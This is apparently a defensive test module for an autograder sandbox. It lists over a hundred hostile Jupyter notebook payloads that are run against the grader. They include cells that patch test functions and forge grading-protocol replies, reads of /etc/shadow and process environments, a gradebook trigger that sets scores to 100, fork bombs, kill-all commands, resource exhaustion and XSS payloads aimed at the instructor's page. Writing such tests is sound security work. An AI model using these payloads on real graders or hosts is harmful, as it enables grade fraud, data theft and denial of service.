"""Hostile notebooks. Each is sent on a wrong and on a right answer; stock.json tells what stock nbgrader does with it."""

from __future__ import annotations

from typing import Any

import nbformat

from .attack import Attack, answers, cell, graded, many, metadata, shown, source
from .white_box import WHITE_BOX


def tags(notebook: Any) -> None:
    for c in notebook.cells:
        c.metadata["tags"] = ["skip-execution", "raises-exception"]


def written(notebook: Any) -> None:
    """Every cell that a student may write in becomes Markdown with a script in it."""
    for c in notebook.cells:
        if c.metadata.get("nbgrader", {}).get("locked") is True:
            continue
        c.source += "\n# <script>alert(1)</script>"
        if "nbgrader" not in c.metadata:
            retype(c)


def notebook_metadata(notebook: Any) -> None:
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"</script><script>alert(1)</script>": {}}}}
    notebook.metadata.update(title="</title><script>alert(1)</script>", widgets=widgets)
    notebook.metadata["language_info"] = {"name": "<script>", "pygments_lexer": "html", "codemirror_mode": "<script>"}
    for c in notebook.cells:
        c.metadata.update(tags=['"><script>alert(1)</script>'], title="<script>", transient={"remove_source": True})


def drop(notebook: Any) -> None:
    notebook.cells = [
        c for c in notebook.cells if not (c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code")
    ]


def double(notebook: Any) -> None:
    notebook.cells = [
        copy for c in notebook.cells for copy in ([c, nbformat.from_dict(c)] if "nbgrader" in c.metadata else [c])
    ]
    for c in notebook.cells:
        c.pop("id", None)
    notebook.nbformat_minor = 4


def retype(c: Any) -> None:
    c.cell_type = "markdown"
    c.pop("outputs", None)
    c.pop("execution_count", None)


def reverse(notebook: Any) -> None:
    notebook.cells.reverse()


def halves(notebook: Any) -> None:
    """Halves of characters, which no file can hold, in every place that may have a text."""
    for c in notebook.cells:
        c.metadata["tags"] = ["\ud800"]
        if c.cell_type != "code" and c.metadata.get("nbgrader", {}).get("locked") is not True:
            c.source += " \ud800"
    cell("half = '\ud800'\nprint(half)\nhalf")(notebook)


def ids(notebook: Any) -> None:
    """Ids of cells, which a page has for its anchors."""
    notebook.nbformat_minor = 5
    for number, c in enumerate(notebook.cells):
        c["id"] = f'"><script>alert({number})</script>'


SOCKET = "import os, stat, struct\nfd = next(n for n in range(3, 99) if stat.S_ISSOCK(os.fstat(n).st_mode))\n"
INSTEAD = "from autograder.sandbox.inside import student\nimport json, types\nstudent.json = types.SimpleNamespace(dumps=lambda *a, **k: {})\n"
LOOT = "CANARY-{}"


ATTACKS: dict[str, Attack] = {
    # the tests' own tools
    "numpy.testing patched": Attack(
        cell("import numpy as np\nnp.testing.assert_allclose = np.allclose = np.array_equal = lambda *a, **k: True"),
    ),
    "check redefined": Attack(
        cell("import seqlib.exercises\nseqlib.exercises.check = lambda *a, **k: True\ncheck = seqlib.exercises.check"),
    ),
    "comparer patched": Attack(cell("import builtins\nbuiltins.AssertionError = type('Quiet', (Exception,), {})")),
    "builtins patched": Attack(
        cell("import builtins\nbuiltins.max = builtins.min = lambda *a, **k: 0"), harmless=False
    ),
    "modules replaced": Attack(
        cell(
            "import sys, types\nfake = types.ModuleType('seqlib.exercises')\nfake.check = lambda *a, **k: True\nsys.modules['seqlib.exercises'] = fake"
        ),
    ),
    "ast transformer": Attack(
        cell(
            "import ast\nclass T(ast.NodeTransformer):\n    def visit_Call(self, n):\n        return ast.Constant(True) if getattr(n.func, 'id', '') == 'check' else self.generic_visit(n)\nget_ipython().ast_transformers.append(T())"
        ),
    ),
    "input transformer": Attack(
        cell(
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['True\\n'] if any('check(' in l for l in lines) else lines)"
        ),
    ),
    "run_cell replaced": Attack(
        cell(
            "shell = get_ipython()\nold = type(shell).run_cell\ntype(shell).run_cell = lambda self, source, **k: old(self, 'True' if 'check(' in source else source, **k)"
        ),
    ),
    "run_code replaced": Attack(
        cell("shell = get_ipython()\nasync def quiet(*a, **k): return False\nshell.run_code = quiet"),
        harmless=False,
    ),
    "post-run hook": Attack(cell("get_ipython().events.register('post_run_cell', lambda r: print('3.0'))")),
    "excepthook": Attack(cell("get_ipython().set_custom_exc((Exception,), lambda *a: None)")),
    # answers that compare well with everything
    "equal to everything": Attack(
        answers(
            "lambda *a, **k: type('E', (), {'__eq__': lambda s, o: True, '__array__': lambda s, *b: 1, '__float__': lambda s: 1.0})()"
        ),
        harmless=False,
    ),
    "array subclass": Attack(
        answers(
            "lambda *a, **k: (lambda np: np.zeros((3, 4)).view(type('A', (np.ndarray,), {'__eq__': lambda s, o: True, '__sub__': lambda s, o: 0})))(__import__('numpy'))"
        ),
        harmless=False,
    ),
    "endless repr": Attack(
        answers("lambda *a, **k: type('R', (), {'__repr__': lambda s: 'x' * 10**9, '__len__': lambda s: 2**62})()"),
        harmless=False,
    ),
    "value in itself": Attack(answers("lambda *a, **k: (lambda x: (x.append(x), x)[1])([])"), harmless=False),
    "deep value": Attack(
        answers("lambda *a, **k: __import__('functools').reduce(lambda x, _: [x], range(10**5), 0)"),
        harmless=False,
    ),
    "huge value": Attack(answers("lambda *a, **k: __import__('numpy').zeros(10**8)"), harmless=False),
    "object array": Attack(answers("lambda *a, **k: __import__('numpy').array([object()] * 3)"), harmless=False),
    "not a number": Attack(answers("lambda *a, **k: float('nan')"), harmless=False),
    "exception with a text": Attack(
        answers("lambda *a, **k: (_ for _ in ()).throw(SystemExit('3.0'))"), harmless=False
    ),
    "unpickled code": Attack(
        answers("lambda *a, **k: type('P', (), {'__reduce__': lambda s: (print, ('run',))})()"),
        harmless=False,
    ),
    # the protocol
    "forged reply": Attack(
        cell(SOCKET + "os.write(fd, struct.pack('>4s16sI', b'okay', bytes(16), 2) + b'{}')"),
        harmless=False,
    ),
    "forged replies by a thread": Attack(
        cell(
            SOCKET
            + "import threading\ndef spam():\n    while True: os.write(fd, struct.pack('>4s16sI', b'okay', bytes(16), 2) + b'{}')\nthreading.Thread(target=spam, daemon=True).start()"
        ),
        harmless=False,
    ),
    "socket closed": Attack(cell(SOCKET + "os.close(fd)"), harmless=False),
    "perform patched": Attack(
        cell(
            "from seqlib.exercises import calls, codec\ncalls.perform = lambda *a: codec.encode({'value': True, 'arguments': []})"
        ),
        harmless=False,
    ),
    "perform returns no reply": Attack(
        cell("from seqlib.exercises import calls\ncalls.perform = lambda *a: b'{\"points\": 3.0}'"),
        harmless=False,
    ),
    "number of a cell forged": Attack(cell(INSTEAD.format("""'{"count": Infinity, "messages": []}'"""))),
    "number of an output forged": Attack(
        cell(
            INSTEAD.format(
                """'{"count": 1, "messages": [{"msg_type": "execute_result", "content": {"data": {}, "execution_count": -3}}]}'"""
            )
        )
    ),
    "messages forged by the million": Attack(
        cell(
            "few = [{'msg_type': 'display_data', 'content': {'data': {}, 'transient': {'display_id': 'a'}}}] * 100_000\n"
            + INSTEAD.format("text")
            + "text = json.dumps({'count': 1, 'messages': few})"
        )
    ),
    "failure that steers a terminal": Attack(
        cell(
            "from seqlib.exercises import calls\ndef fail(*a): raise Exception('\\x1b[2J\\x1b]0;x\\x07\\rzoe 15/15 [/red]')\ncalls.perform = fail"
        ),
        harmless=False,
    ),
    "exception that cannot be written": Attack(
        answers("lambda *a, **k: (_ for _ in ()).throw(ValueError('\\ud800 \\x1b[2J'))"), harmless=False
    ),
    "stack inspection": Attack(
        answers(
            "(lambda old: lambda *a, **k: next((f.f_locals['expected'] for f in __import__('inspect').getouterframes(__import__('inspect').currentframe()) if 'expected' in f[0].f_locals), None))(0)"
        ),
        harmless=False,
    ),
    "garbage collector search": Attack(
        cell(
            "import gc\nprint([o for o in gc.get_objects() if isinstance(o, dict) and 'expected' in o and 'label' in o])"
        ),
    ),
    # the notebook file
    "tags": Attack(tags),
    "graded cells rewritten": Attack(source("3.0")),
    "points raised": Attack(metadata(points=100)),
    "graded cells as answers": Attack(metadata(solution=True, locked=False)),
    "graded cells disowned": Attack(metadata(grade=False)),
    "grade ids invented": Attack(
        graded(lambda c: c.metadata.nbgrader.update(grade_id=c.metadata.nbgrader.grade_id + "-mine")), aside=True
    ),
    "schema of the future": Attack(metadata(schema_version=99)),
    "graded cells deleted": Attack(drop),
    "cells doubled": Attack(double),
    "graded cells retyped": Attack(graded(retype)),
    "cells reversed": Attack(reverse, harmless=False),
    "outputs forged": Attack(
        graded(lambda c: c.__setitem__("outputs", [nbformat.v4.new_output("execute_result", {"text/plain": "3.0"})])),
    ),
    "metadata of another type": Attack(
        lambda n: [c.metadata.__setitem__("nbgrader", ["x"]) for c in n.cells[:1]] and None
    ),
    "tags of another type": Attack(lambda n: [c.metadata.__setitem__("tags", {"a": 1}) for c in n.cells] and None),
    "another kernel": Attack(lambda n: n.metadata.__setitem__("kernelspec", {"name": "bash", "display_name": "x"})),
    "halves of characters": Attack(halves),
    "script in cell ids": Attack(ids),
    # reading
    "host files": Attack(
        cell(
            "for p in ('/etc/passwd', '/etc/shadow', '/root', '/work', '/home', '/proc/1/environ', '/proc/1/maps', '/proc/1/mem'):\n    try: print(p, __import__('os').listdir(p) if __import__('os').path.isdir(p) else open(p, 'rb').read(300))\n    except Exception as e: print(p, type(e))"
        ),
    ),
    "gradebook and other students": Attack(
        cell(
            "import os\nprint([os.path.join(d, f) for d, _, fs in os.walk('/') for f in fs if f.endswith(('.db', '.ipynb')) and not d.startswith(('/opt/site', '/opt/python', '/proc'))])"
        ),
    ),
    "hidden tests": Attack(cell("import autograder.lessons")),
    "solutions": Attack(cell("from seqlib import *\nfrom seqlib.rnn import *")),
    "environment": Attack(cell("import os\nprint(dict(os.environ))")),
    "other processes": Attack(
        cell("import os\nprint([open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])"),
    ),
    "ptrace of the parent": Attack(
        cell("import ctypes\nfor pid in (0, 1, 2, 3): ctypes.CDLL(None).ptrace(16, pid, 0, 0)")
    ),
    "symbolic links": Attack(
        cell("import os\nos.symlink('/etc/shadow', 'answers.txt')\nprint(open('answers.txt').read())")
    ),
    "network": Attack(cell("import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=1)")),
    "names": Attack(cell("import socket\nsocket.gethostbyname('example.org')")),
    "sockets to the machine's host": Attack(
        cell(
            "import socket\nfor family in (socket.AF_VSOCK, socket.AF_NETLINK, socket.AF_ALG):\n    try: print('opened', socket.socket(family, socket.SOCK_STREAM if family == socket.AF_VSOCK else socket.SOCK_RAW))\n    except OSError as e: print(e)"
        ),
    ),
    "abstract sockets": Attack(
        cell("import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0/tmp/.X11-unix/X0')")
    ),
    # writing
    "startup files": Attack(
        cell(
            "import os\nfor d in ('~/.ipython/profile_default/startup', '~/.jupyter'):\n    os.makedirs(os.path.expanduser(d), exist_ok=True)\n    open(os.path.expanduser(d) + '/x.py', 'w').write('print(3.0)')"
        ),
    ),
    "files named like modules": Attack(
        cell("for n in ('numpy', 'random', 'json', 'seqlib', 'codec'): open(n + '.py', 'w').write('raise SystemExit')"),
    ),
    "system files": Attack(
        cell(
            "for p in ('/usr/x', '/opt/site/x', '/opt/course/x', '/x', '/dev/x', '/etc/x'):\n    try: open(p, 'w'); print('wrote', p)\n    except OSError: pass"
        ),
    ),
    "gradebook triggers": Attack(
        cell(
            "import sqlite3, glob\nfor p in glob.glob('/**/gradebook.db', recursive=True): sqlite3.connect(p).execute('CREATE TRIGGER t AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score=100; END')"
        ),
    ),
    # ending and exhausting
    "os._exit": Attack(cell("import os\nos._exit(0)")),
    "exit": Attack(cell("exit()\nquit()")),
    "sys.exit": Attack(cell("import sys\nsys.exit(0)")),
    "segmentation fault": Attack(cell("import ctypes\nctypes.string_at(0)")),
    "kill everything": Attack(cell("import os\nos.kill(-1, 9)")),
    "kill process 1": Attack(cell("import os\nos.kill(1, 9)\nos.kill(os.getppid(), 9)")),
    "endless loop": Attack(cell("while True: sum(range(99))")),
    "endless loop that ignores signals": Attack(
        cell("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: sum(range(99))")
    ),
    "endless answer": Attack(answers("lambda *a, **k: next(i for i in iter(int, 1) if i)"), harmless=False),
    "endless sleep": Attack(cell("import time\ntime.sleep(10**6)")),
    "blocked signals": Attack(
        cell("import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))\ntime.sleep(10**6)"),
    ),
    "stops itself": Attack(cell("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")),
    "fork bomb": Attack(
        cell("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
        harmless=False,
    ),
    "thread bomb": Attack(
        cell(
            "import threading, time\nfor i in range(10**5): threading.Thread(target=time.sleep, args=(99,), daemon=True).start()"
        ),
    ),
    "daemon": Attack(
        cell(
            "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: time.sleep(10**6)\n    os._exit(0)"
        ),
    ),
    "atexit and threads": Attack(
        cell(
            "import atexit, threading, time\natexit.register(print, '3.0')\nthreading.Thread(target=lambda: (time.sleep(0.05), print('3.0')), daemon=True).start()"
        ),
    ),
    "allocation at once": Attack(cell("x = bytearray(10**11)")),
    "allocation bit by bit": Attack(cell("x = []\nwhile True: x.append(b'x' * 10**7 * len(x))")),
    "processes that allocate": Attack(
        cell(
            "import os, time\nfor i in range(20):\n    if os.fork() == 0:\n        x = b'x' * 2 * 10**8\n        time.sleep(99)\ntime.sleep(99)"
        ),
    ),
    "disk": Attack(cell("f = open('/tmp/x', 'wb')\nwhile True: f.write(bytes(10**7))")),
    "inodes": Attack(cell("import itertools\nfor i in itertools.count(): open(f'/tmp/{i}', 'w')")),
    "shared memory": Attack(cell("f = open('/dev/shm/x', 'wb')\nwhile True: f.write(bytes(10**7))")),
    "memfd": Attack(
        cell(
            "import os\nfds = []\nwhile True:\n    fds.append(os.memfd_create('x'))\n    os.write(fds[-1], bytes(10**7))"
        ),
    ),
    "100 MB of output": Attack(cell("for i in range(100): print('x' * 10**6)")),
    "endless output": Attack(cell("while True: print('x' * 1000)")),
    "output in many cells": Attack(many("print('x' * 900_000)")),
    "output past the shell": Attack(
        cell("import os\nfor i in range(1000): os.write(1, b'x' * 10**5)\nos.system('yes | head -c 10000000')"),
    ),
    "deep recursion": Attack(cell("import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()")),
    "limits raised": Attack(
        cell(
            "import resource\nfor n in range(16):\n    try: resource.setrlimit(n, (-1, -1))\n    except (OSError, ValueError): pass\nx = bytearray(10**11)"
        ),
    ),
    "new user namespace": Attack(
        cell(
            "import ctypes, subprocess\nctypes.CDLL(None).unshare(0x10000000)\nsubprocess.run(['unshare', '-r', 'true'], check=True)"
        ),
    ),
    # what the instructor opens
    "script in an output": Attack(
        cell(
            "from IPython.display import HTML, Javascript, SVG, display\ndisplay(HTML('<script>alert(1)</script><img src=x onerror=alert(1)>'))\ndisplay(Javascript('alert(1)'))\ndisplay(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'))"
        ),
    ),
    "tags within tags": Attack(
        cell(
            "from IPython.display import HTML, display\ndisplay(HTML('<div>' * 150_000))\ndisplay(HTML('<' * 200_000))"
        ),
    ),
    "script as raw data": Attack(
        cell(
            "from IPython.display import display\ndisplay({'text/html': ['<script>alert(1)</script>'], 'image/png': '\"><script>alert(1)</script>', 'application/javascript': 'alert(1)'}, raw=True)"
        ),
    ),
    "script in Markdown": Attack(
        shown("markdown", "# Answer\n\n<script>alert(1)</script> and <b onclick=alert(1)>bold</b>"),
    ),
    "handler in Markdown": Attack(
        shown("markdown", "<img src=x onerror=alert(1)><svg onload=alert(1)></svg><details open ontoggle=alert(1)>"),
    ),
    "links that run": Attack(
        shown(
            "markdown",
            "[a](javascript:alert(1)) [b](java&#115;cript:alert(1)) [c][d] <javascript:alert(1)> [e](data:text/html,x)\n\n[d]: javascript:alert(1)",
        ),
    ),
    "links that lead to a page handed in": Attack(
        shown("markdown", "[a](page.html) [b](..%2f..%2fsubmitted%2fmallory%2fpage.html) [c][d]\n\n[d]: page.html"),
    ),
    "frames, forms and styles": Attack(
        shown(
            "markdown",
            "<iframe src='https://a.example'></iframe><style>.panel { display: none }</style><form action='/formgrader/api'><button>x</button></form>",
        ),
    ),
    "formula that is a link": Attack(
        shown("markdown", "$\\href{javascript:alert(1)}{x}$ $\\style{position: fixed; top: 0}{x}$"),
    ),
    "diagram with a script": Attack(shown("markdown", "```mermaid\n<script>alert(1)</script>\n```")),
    "picture that calls home": Attack(shown("markdown", "![x](https://a.example/seen.png)")),
    "attachments": Attack(
        shown(
            "markdown",
            "![x](attachment:a.svg) ![y](attachment:b.png) ![z](attachment:missing.png)",
            attachments={"a.svg": {"image/svg+xml": "PHN2Zz4="}, "b.png": {"image/png": "\"onerror='alert(1)'"}},
        ),
    ),
    "script in a raw cell": Attack(shown("raw", "<script>alert(1)</script><img src=x onerror=alert(1)>")),
    "script in answers": Attack(written),
    "script in metadata": Attack(notebook_metadata, harmless=True),
    "formula in an output": Attack(
        cell("from IPython.display import HTML, display\ndisplay(HTML('<td>$\\\\href{javascript:alert(1)}{x}$</td>'))"),
    ),
    # what honest students do
    "warning on stderr": Attack(
        cell("import sys, warnings\nwarnings.warn('careful')\nprint('careful', file=sys.stderr)")
    ),
    "seed of the check": Attack(cell("import numpy as np\nnp.random.seed(0)\nnp.random.rand = lambda *a: 0")),
    # a first and a second reading of the source
    **WHITE_BOX,
}
